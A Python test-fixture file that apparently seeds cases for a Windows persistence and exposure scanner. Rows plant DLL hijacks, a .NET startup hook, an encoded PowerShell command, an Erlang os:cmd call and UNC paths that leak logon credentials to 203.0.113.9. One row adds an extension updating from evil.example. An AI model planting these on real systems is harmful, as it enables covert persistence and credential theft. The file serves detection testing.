"""What a signed program that starts by itself takes from its folder, its settings or its command line, and what Windows asks other
computers for."""
from windows_disk import *

change = Changes()
START, SERVICE = 'WIN-PERSIST-001', 'WIN-PERSIST-003'
FOLDER = r'C:\Program Files\My App'
RUNTIME = '{"runtimeOptions":{"framework":{"name":"Microsoft.NETCore.App","version":"8.0.0"}%s}}'


def started(name, why, place, make, folder=FOLDER, program='app.exe', arguments=''):
    """A service of a signed program, and what `make` puts for it."""
    change.row(name, why, SERVICE, place, lambda d: (
        d.honest(rf'{folder}\{program}'), d.service('App', f'"{folder}\\{program}" {arguments}'.strip()), make(d)))


# --- below its folder ---
started('plug-in-below-a-program', 'Programs load plug-ins by the names that lie in a folder of theirs.', 'evil.dll', lambda d: d.foreign(rf'{FOLDER}\plugins\evil.dll'))
started('satellite-of-a-program', 'The CLR loads <culture>\\<name>.resources.dll by the language of the user (Microsoft, "How the runtime locates assemblies").', 'app.resources.dll',
        lambda d: d.foreign(rf'{FOLDER}\en-US\app.resources.dll'))
LISTENER = '<configuration><system.diagnostics><trace><listeners><add name="x" type="Evil.L, Evil"/></listeners></trace></system.diagnostics></configuration>'
started('assembly-that-is-a-program', 'The CLR takes Evil.exe where there is no Evil.dll.', 'Evil.exe', lambda d: (d.foreign(rf'{FOLDER}\Evil.exe'), d.put(rf'{FOLDER}\app.exe.config', LISTENER)))
started('assembly-in-its-own-folder', 'The CLR looks for Evil\\Evil.dll, too.', r'Evil.dll', lambda d: (d.foreign(rf'{FOLDER}\Evil\Evil.dll'), d.put(rf'{FOLDER}\app.exe.config', LISTENER)))
started('library-that-the-settings-name', 'Redis loads what loadmodule of its settings names.', 'evil.dll', lambda d: (d.foreign(rf'{FOLDER}\m\evil.dll'), d.put(
    rf'{FOLDER}\server.conf', 'loadmodule C:/Program Files/My App/m/evil.dll\nport 6379\n')))
started('module-of-a-web-server', 'httpd loads the modules of its configuration, whatever their ending.', 'mod_evil.so', lambda d: d.foreign(r'C:\Apache24\modules\mod_evil.so'), r'C:\Apache24\bin', 'httpd.exe', '-k runservice')
started('commands-in-the-settings-of-an-agent', 'Consul carries out checks where its settings allow it.', 'server.hcl', lambda d: d.put(rf'{FOLDER}\config\server.hcl', 'enable_local_script_checks = true\n'), program='consul.exe', arguments='agent')
started('program-that-the-settings-name', 'A program starts what its settings name; nobody signed that one.', 'worker.exe', lambda d: (d.foreign(rf'{FOLDER}\tools\worker.exe'), d.put(
    rf'{FOLDER}\conf\server.yaml', 'worker:\n  path: tools/worker.exe\n')))
started('native-module-of-node', 'A packed program of Node.js loads native modules from node_modules, whatever their ending.', 'x.node', lambda d: d.foreign(rf'{FOLDER}\node_modules\x\build\Release\x.node'))
started('machine-of-java', 'java.exe and its like load ..\\bin\\server\\jvm.dll.', 'jvm.dll', lambda d: d.foreign(r'C:\Program Files\Java\bin\server\jvm.dll'), r'C:\Program Files\Java\bin', 'java.exe', '-version')
started('library-beside-the-folder-of-programs', 'PostgreSQL loads shared_preload_libraries from ..\\lib.', 'evil.dll', lambda d: d.foreign(r'C:\Program Files\Data\lib\evil.dll'), r'C:\Program Files\Data\bin')
started('unpacked-part-of-electron', 'Electron takes what is unpacked from app.asar.unpacked.', 'index.js', lambda d: d.put(rf'{FOLDER}\resources\app.asar.unpacked\index.js', 'require("child_process").exec("calc")'))
started('package-beside-nw', 'nw.exe carries out package.nw beside it.', 'package.nw', lambda d: d.put(rf'{FOLDER}\package.nw', b'PK\3\4' + bytes(100)))
started('modules-of-a-packed-python', 'A frozen program takes its modules from library.zip.', 'library.zip', lambda d: d.put(rf'{FOLDER}\lib\library.zip', b'PK\3\4' + bytes(100)))

# --- settings of .NET ---
started('hook-of-the-runtime', 'STARTUP_HOOKS is a property of runtimeconfig.json, too (dotnet/runtime, "host-startup-hook").', 'hook.dll', lambda d: (
    d.honest(rf'{FOLDER}\app.dll'), d.foreign(r'C:\ProgramData\h\hook.dll'),
    d.put(rf'{FOLDER}\app.runtimeconfig.json', RUNTIME % r',"configProperties":{"STARTUP_HOOKS":"C:\\ProgramData\\h\\hook.dll"}')))
started('folder-that-the-runtime-probes', 'additionalProbingPaths leads the host to packages elsewhere.', 'h.dll', lambda d: (
    d.honest(rf'{FOLDER}\app.dll'), d.foreign(r'C:\ProgramData\h\h\1.0.0\h.dll'),
    d.put(rf'{FOLDER}\app.runtimeconfig.json', RUNTIME % r',"additionalProbingPaths":["C:\\ProgramData\\h"]')))
started('framework-of-another-maker', 'A program of .NET loads hostfxr.dll and the run-time from Program Files\\dotnet.', 'hostfxr.dll', lambda d: (
    d.honest(rf'{FOLDER}\app.dll'), d.put(rf'{FOLDER}\app.runtimeconfig.json', RUNTIME % ''),
    d.foreign(r'C:\Program Files\dotnet\host\fxr\8.0.0\hostfxr.dll')))
started('place-of-the-framework', 'InstallLocation names the folder of the run-time ("Install location search for .NET").', 'hostfxr.dll', lambda d: (
    d.honest(rf'{FOLDER}\app.dll'), d.put(rf'{FOLDER}\app.runtimeconfig.json', RUNTIME % ''), d.foreign(r'C:\Program Files\kit\host\fxr\8.0.0\hostfxr.dll'),
    d.software(r'dotnet\Setup\InstalledVersions\x64', 'InstallLocation', SZ, 'C:\\Program Files\\kit\\')))
started('configuration-that-is-linked', 'linkedConfiguration takes in another file, which may name code anywhere.', 'app.exe.config', lambda d: d.put(
    rf'{FOLDER}\app.exe.config', '<configuration><assemblyBinding xmlns="urn:schemas-microsoft-com:asm.v1"><linkedConfiguration href="file:///C:/ProgramData/l.config"/></assemblyBinding></configuration>'))
MACHINE = r'Windows\Microsoft.NET\Framework64\v4.0.30319\Config\machine.config'
change.row('listener-of-all-programs', 'A listener of System.Diagnostics is a type that every program which traces loads.', START, 'machine.config', lambda d: d.put(
    MACHINE, '<configuration><system.diagnostics><trace><listeners><add name="x" type="Evil.L, Evil, Version=1.0.0.0, Culture=neutral, PublicKeyToken=null"/></listeners></trace></system.diagnostics></configuration>'))

# --- what it is told ---
started('script-under-any-name', 'wperl carries out its first word, whatever its ending.', r'\x', lambda d: d.put(rf'{FOLDER}\x', 'system("calc")'), program='wperl.exe', arguments=rf'"{FOLDER}\x"')
started('code-behind-a-switch', 'erl carries out what follows -eval.', 'os:cmd', lambda d: None, program='erl.exe', arguments='-noshell -eval os:cmd("calc")')
started('code-for-a-program-that-is-not-known', 'A call in a word is code, whoever reads it.', 'system', lambda d: None, program='xyz.exe', arguments='--eval "system(\'calc\')"')
started('script-of-a-program-that-is-not-known', 'A file that is neither settings nor data may be a script.', 'x.qqq', lambda d: d.put(rf'{FOLDER}\x.qqq', 'run("calc")\n'), program='xyz.exe', arguments=rf'"{FOLDER}\x.qqq"')
started('commands-of-an-agent', 'inputs.exec of Telegraf runs commands each interval.', 'telegraf.conf', lambda d: d.put(r'C:\conf\telegraf.conf', '[[inputs.exec]]\n  commands = ["powershell -enc SQBFAFgA"]\n'),
        program='telegraf.exe', arguments=r'--config C:\conf\telegraf.conf')
started('container-that-starts-again', 'dockerd starts containers again whose policy says so.', 'hostconfig.json', lambda d: d.put(
    r'ProgramData\docker\containers\0123\hostconfig.json', '{"RestartPolicy":{"Name":"always"}}'), program='dockerd.exe', arguments='--run-service')
started('browser-that-others-steer', 'Whoever reaches the port of --remote-debugging-port steers the browser.', '--remote-debugging-port', lambda d: None, program='chrome.exe',
        arguments='--headless --remote-debugging-port=9222 --remote-debugging-address=0.0.0.0')
started('tunnel-of-an-account', 'code-tunnel lets its owner in from anywhere.', 'code-tunnel.exe', lambda d: None, program='code-tunnel.exe', arguments='tunnel service internal-run')

# --- others who manage the machine ---
change.row('tenant-of-defender', 'OnboardingInfo binds the machine to a tenant, which may run what it likes on it.', START, 'OnboardingInfo', lambda d: d.software(
    r'Policies\Microsoft\Windows Advanced Threat Protection', 'OnboardingInfo', SZ, '{"body":"{}","sig":"x"}'))
change.row('tenant-of-the-machine', 'Administrators of the tenant that it joined are its administrators.', START, 'TenantId', lambda d: d.system(
    rf'{CONTROL}\CloudDomainJoin\JoinInfo\0123456789ABCDEF0123456789ABCDEF01234567', 'TenantId', SZ, '11111111-2222-3333-4444-555555555555'))
change.row('restart-at-each-logon', 'A batch file of Startup restarts the machine; small editions lack shutdown.exe.', START, 'shutdown', lambda d: d.put(
    r'ProgramData\Microsoft\Windows\Start Menu\Programs\Startup\a.bat', '@echo off\r\nshutdown /r /t 5\r\n'))

# --- credentials for others ---
SHARE = r'\\203.0.113.9\x'
change.row('picture-of-another-computer', 'The picture of the desktop is read at each logon: its share gets the answer to its challenge.', START, 'Wallpaper', lambda d: d.user(r'Control Panel\Desktop', 'Wallpaper', SZ, SHARE + r'\a.jpg'))
change.row('drive-of-another-computer', 'Drives that are mapped are connected at each logon.', START, 'RemotePath', lambda d: d.user(r'Network\Z', 'RemotePath', SZ, SHARE))
change.row('printer-of-another-computer', 'The spooler connects to the printers of the machine (printui /ga).', START, 'Server', lambda d: d.system(rf'{CONTROL}\Print\Connections\,,203.0.113.9,p', 'Server', SZ, r'\\203.0.113.9'))
change.row('icon-of-another-computer', 'The shell reads the icon of a folder that it shows.', START, 'desktop.ini', lambda d: d.put(r'Users\Public\Documents\desktop.ini', '[.ShellClassInfo]\r\nIconResource=' + SHARE + r'\a.ico,0' + '\r\n'))
change.row('machines-of-the-console', 'Server Manager asks the machines of its list when an administrator logs on.', START, 'ServerList.xml', lambda d: d.put(
    r'Users\Administrator\AppData\Roaming\Microsoft\Windows\ServerManager\ServerList.xml', '<ServerList xmlns="urn:serverpool-schema"><ServerInfo name="203.0.113.9" status="1"/></ServerList>'))

# --- connections ---
change.row('library-of-a-connection', 'The remote access loads CustomDialDll of a phone book to connect.', START, 'evil.dll', lambda d: (d.foreign(r'Program Files\kit\evil.dll'), d.put(
    r'ProgramData\Microsoft\Network\Connections\Pbk\rasphone.pbk', '[x]\r\nMEDIA=rastapi\r\nDEVICE=vpn\r\nPhoneNumber=203.0.113.9\r\nCustomDialDll=C:\\Program Files\\kit\\evil.dll\r\n')))
change.row('connection-by-itself', 'A connection that is always on leads all traffic to somebody else.', START, 'rasphone.pbk', lambda d: d.put(
    r'ProgramData\Microsoft\Network\Connections\Pbk\rasphone.pbk', '[x]\r\nMEDIA=rastapi\r\nDEVICE=vpn\r\nPhoneNumber=203.0.113.9\r\nAlwaysOn=1\r\n'))
OTHERS = 'WIN-DEF-002'
change.row('tunnel-of-the-device', 'A device tunnel connects before anybody logs on.', OTHERS, 'ConnectionName', lambda d: d.system(rf'{SERVICES}\RasMan\DeviceTunnel', 'ConnectionName', SZ, 'x'))
change.row('export-of-the-drive', 'Server for NFS gives the folder to whoever mounts it.', OTHERS, 'Exports', lambda d: d.software(r'Microsoft\Server For NFS\CurrentVersion\Exports\0', 'Path', SZ, 'C:\\'))
change.row('memory-for-another-server', 'Reports of errors hold the memory of what failed.', OTHERS, 'CorporateWERServer', lambda d: d.software(
    r'Policies\Microsoft\Windows\Windows Error Reporting', 'CorporateWERServer', SZ, '203.0.113.9'))
change.row('proxy-of-a-browser', 'A policy of the browser chooses its proxy.', OTHERS, 'ProxyPacUrl', lambda d: d.software(r'Policies\Microsoft\Edge', 'ProxyPacUrl', SZ, 'http://203.0.113.9/p.pac'))
change.row('agent-of-recovery', 'Files that anybody encrypts are readable for an agent of recovery.', OTHERS, 'EFSBlob', lambda d: d.software(
    r'Policies\Microsoft\SystemCertificates\EFS', 'EFSBlob', BINARY, bytes.fromhex('01000000010000002a') + bytes(60)))
BASIC = 'WIN-CAP-002'
change.row('logon-by-card-alone', 'No password logs on where a smart card is asked for.', BASIC, 'scforceoption', lambda d: d.software(rf'{CURRENT}\Policies\System', 'scforceoption', DWORD, 1))

# --- browsers ---
change.row('extension-for-every-user', 'Chrome installs what external_extensions.json of its folder names.', START, 'external_extensions.json', lambda d: d.put(
    r'Program Files\Google\Chrome\Application\120.0\Extensions\external_extensions.json', '{"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa":{"external_update_url":"https://evil.example/u.xml"}}'))
change.row('authority-of-a-browser', 'policies.json of Firefox installs authorities and chooses the proxy.', START, 'policies.json', lambda d: d.put(
    r'Program Files\Mozilla Firefox\distribution\policies.json', '{"policies":{"Certificates":{"Install":["C:\\\\ProgramData\\\\ca.der"]}}}'))
